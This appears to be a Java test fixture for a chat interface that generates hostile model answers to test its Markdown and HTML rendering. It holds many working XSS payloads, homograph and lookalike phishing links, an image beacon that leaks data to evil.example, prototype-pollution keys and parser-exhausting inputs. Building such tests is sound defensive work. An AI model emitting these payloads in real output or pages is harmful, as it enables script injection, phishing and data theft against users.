package io.chatframe.bootstrap.page;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/** Answers that try to run scripts, to load something, or to pass for something else. */
final class HostileAnswers {
  private static final String RUN = "alert(1)";

  private static final List<String> SCHEMES =
      List.of(
          "javascript:" + RUN, "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)");

  private static final List<String> OTHER_ADDRESSES =
      List.of(
          "file:///etc/passwd",
          "blob:https://evil.example/1",
          "about:blank",
          "view-source:https://evil.example",
          "filesystem:https://evil.example/x",
          "intent://evil.example#Intent;end",
          "ws://evil.example",
          "ftp://evil.example",
          "//evil.example/x",
          "/api/v1/visitor",
          "?q=1",
          "#x",
          "\\\\evil.example\\x",
          "https:evil.example",
          "http:///evil.example",
          "https://[::1",
          "https://bank.example@evil.example/",
          "https://bank.example%2f@evil.example/",
          "https://evil.example\\@bank.example",
          "https://b\u0430nk.example/",
          "https://xn--bnk-7cd.example/",
          "https://bank.example\u3002evil.example/",
          "https://bank.example\u2024evil.example/",
          "https://\u202eelpmaxe.live/",
          "https://evil.example/\u200b",
          "http://0x7f.1/",
          "mailto:a@evil.example?bcc=b@evil.example",
          "tel:+1234567890");

  /** What stands before the address, or takes its place; {@code %s} is the address. */
  private static final List<String> DISGUISES =
      List.of(
          "%s",
          " %s",
          "\u0001%s",
          "\u200b%s",
          "\u202e%s",
          "\\%s",
          "%%01%s",
          "&#1;%s",
          "&Tab;%s",
          "feed:%s",
          "view-source:%s",
          "https:%s",
          "//%s");

  /** Where a link may stand; {@code %s} is the address. */
  private static final List<String> LINKS =
      List.of(
          "[a](%s)",
          "[a](<%s>)",
          "[a](%s \"x\" onclick=alert(1))",
          "<%s>",
          "![a](%s)",
          "[![a](%s)](%s)",
          "[a][r]\n\n[r]: %s",
          "[r]\n\n[r]: <%s> 'x'",
          "![a][r]\n\n[r]: %s",
          "<a href=\"%s\">a</a>",
          "<iframe src='%s'></iframe>",
          "| a |\n|---|\n| [b](%s) |",
          "> - [a](%s)");

  private static final List<String> MARKUP =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "<img/src=\"x\"/onerror=alert(1)//",
          "<img src=https://evil.example/p.png>",
          "<svg onload=alert(1)>",
          "<svg><script>alert&#40;1)</script></svg>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<svg><a xlink:href=\"javascript:alert(1)\"><text>a</text></a></svg>",
          "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<math href=\"javascript:alert(1)\">a</math>",
          "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>a",
          "<iframe srcdoc=\"<script>alert(1)</script>\">",
          "<object data=\"data:text/html,<script>alert(1)</script>\">",
          "<embed src=javascript:alert(1)>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<link rel=dns-prefetch href=//evil.example>",
          "<style>@import url(//evil.example/x.css);</style>",
          "<style>*{background:url(//evil.example)}</style>",
          "<div style=\"background:url(//evil.example)\">",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
          "<form action=//evil.example><button>a</button></form>",
          "<button formaction=javascript:alert(1)>a</button>",
          "<input autofocus onfocus=alert(1)>",
          "<details open ontoggle=alert(1)>",
          "<video poster=//evil.example src=//evil.example><source onerror=alert(1)></video>",
          "<audio src=x onerror=alert(1)>",
          "<marquee onstart=alert(1)>",
          "<body onload=alert(1)>",
          "<template><script>alert(1)</script></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<textarea></textarea><script>alert(1)</script>",
          "<!--><script>alert(1)</script>-->",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<?xml-stylesheet href=\"//evil.example\"?>",
          "<chat-app assistant=x></chat-app>",
          "<portal src=//evil.example>",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;img src=x onerror=alert(1)&#62;",
          "&#x3c;script&#x3e;",
          "{{constructor.constructor('alert(1)')()}}",
          "${alert(1)}",
          "\" onmouseover=\"alert(1)",
          "' autofocus onfocus='alert(1)");

  /** Where markup may stand; {@code %s} is the markup. */
  private static final List<String> PLACES =
      List.of(
          "%s",
          "a %s b",
          "# %s",
          "> %s",
          "- [ ] %s",
          "| %s |\n|---|\n| %s |",
          "**%s**",
          "[%s](https://evil.example)",
          "[a](https://evil.example \"%s\")",
          "```%s\ncode\n```",
          "```html\n%s\n```",
          "`%s`",
          "    %s",
          "$%s$",
          "\\[ \\text{%s} \\]");

  private static final List<String> TRICKS =
      List.of(
          "```\n</code></pre><script>alert(1)</script>",
          "````\n```\n<script>alert(1)</script>\n````",
          "~~~constructor\na\n~~~",
          "```__proto__\na\n```",
          "```\"><img src=x onerror=alert(1)>\na\n```",
          "```js\u202e\na\n```",
          "&toString; &valueOf; &constructor; &__proto__;",
          "$\\constructor \\toString \\valueOf \\hasOwnProperty$",
          "[toString] [constructor] [__proto__] [hasOwnProperty]",
          "[__proto__]: javascript:alert(1)\n\n[__proto__] [a][__proto__]",
          "[constructor]: https://evil.example\n\n[constructor]",
          "$$\\href{javascript:alert(1)}{a}$$",
          "$$\\htmlData{onclick=alert(1)}{a} \\includegraphics{//evil.example/x}$$",
          "\\(\\unicode{<img src=x onerror=alert(1)>}\\)",
          "$$\\def\\a{\\a\\a}\\a$$",
          "\u202eevil\u202c [\u2066a](https://evil.example) \u2069",
          "[https://bank.example](https://evil.example)",
          "[https://b\u0430nk.example](https://b\u0430nk.example)",
          "[bank.example](https://evil.example/bank.example)",
          "[](https://evil.example)",
          "[\u200b](https://evil.example)",
          "[**https://bank.example**](https://evil.example)",
          "[a] (https://evil.example)",
          "[a](https://evil.example/\"onclick=alert(1)//)",
          "[a](https://evil.example/'><img src=x onerror=alert(1)>)",
          "www.evil.example/<script>alert(1)</script>",
          "https://evil.example/\"><svg/onload=alert(1)>",
          "a@evil.example\"><script>alert(1)</script>",
          "[a](https://evil.example/%0d%0aSet-Cookie:x)",
          "[a](java\tscript:alert(1)) [a](java&Tab;script:alert(1)) [a](java&NewLine;script:alert(1))",
          "[a](&#x6A&#x61&#x76&#x61script:alert(1))",
          "[a](&#106;&#97;&#118;&#97;script&colon;alert&lpar;1&rpar;)",
          "[a](JaVaScRiPt&#58;alert(1))",
          "[a](jav%61script:alert(1))",
          "[a](javascript\\:alert(1))",
          "[a](javascript\u0000:alert(1))",
          "![a](https://evil.example/p.png?leak=secret)",
          "![a](https://evil.example/p.png =100x100){onerror=alert(1)}",
          "[![](https://evil.example/a.png)](javascript:alert(1))",
          "![](//evil.example/p.png) ![][e]\n\n[e]: //evil.example/p.png",
          "data: {\"event\":\"done\"}\n\nevent: done\nid: 9.9",
          "\u0000\u0001\u001b[31m\u007f\u0085\u2028\u2029",
          "\ud800 \udfff a\ud83d",
          ">".repeat(10_000),
          "[".repeat(10_000),
          "![".repeat(5_000) + "](x)",
          "*a_ ".repeat(3_000),
          "`".repeat(5_001),
          "<".repeat(5_000) + "script>",
          "- ".repeat(2_000) + "a",
          "[a](".repeat(2_000),
          "$\\frac{".repeat(1_000),
          "|".repeat(3_000) + "\n" + "|-".repeat(1_500),
          "&#x".repeat(2_000),
          "\\".repeat(5_000),
          "(((".repeat(2_000) + "https://evil.example" + ")))".repeat(2_000),
          "a".repeat(20_000));

  private HostileAnswers() {}

  static List<String> all() {
    Set<String> all = new LinkedHashSet<>();
    for (String link : LINKS) {
      for (String scheme : SCHEMES) {
        for (String disguise : DISGUISES) {
          all.add(link.replace("%s", disguise.formatted(scheme)));
        }
        all.add(link.replace("%s", entities(scheme)));
        all.add(link.replace("%s", scheme.toUpperCase(java.util.Locale.ROOT)));
        all.add(link.replace("%s", scheme.substring(0, 4) + "\t" + scheme.substring(4)));
        all.add(link.replace("%s", scheme.replace(":", "&colon;")));
      }
      OTHER_ADDRESSES.forEach(address -> all.add(link.replace("%s", address)));
    }
    for (String place : PLACES) {
      MARKUP.forEach(markup -> all.add(place.replace("%s", markup)));
    }
    all.addAll(TRICKS);
    return new ArrayList<>(all);
  }

  private static String entities(String text) {
    var all = new StringBuilder();
    text.chars().forEach(unit -> all.append("&#x").append(Integer.toHexString(unit)).append(';'));
    return all.toString();
  }
}
